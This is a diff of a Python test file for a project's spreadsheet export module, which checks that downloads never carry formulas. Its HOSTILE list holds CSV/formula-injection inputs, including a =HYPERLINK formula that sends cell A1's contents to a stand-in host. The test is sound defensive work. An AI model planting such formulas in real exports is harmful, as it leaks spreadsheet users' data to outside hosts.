@@ -1,10 +1,10 @@
-"""Downloads never carry a formula (sipas.exports), checked by reading the file back with openpyxl's
+"""Downloads never carry a formula (sipas.files.exports), checked by reading the file back with openpyxl's
 CSV-free route: the raw text and what LibreOffice/Excel would see as the first character."""
 
 import csv
 import io
 
-from sipas import exports
+from sipas.files import exports
 
 HOSTILE = ['=HYPERLINK("http://x.example/?"&A1,"bấm")', "+1+1", "@SUM(A1:A9)", "-2+3", "\tx", "\r=1"]
 
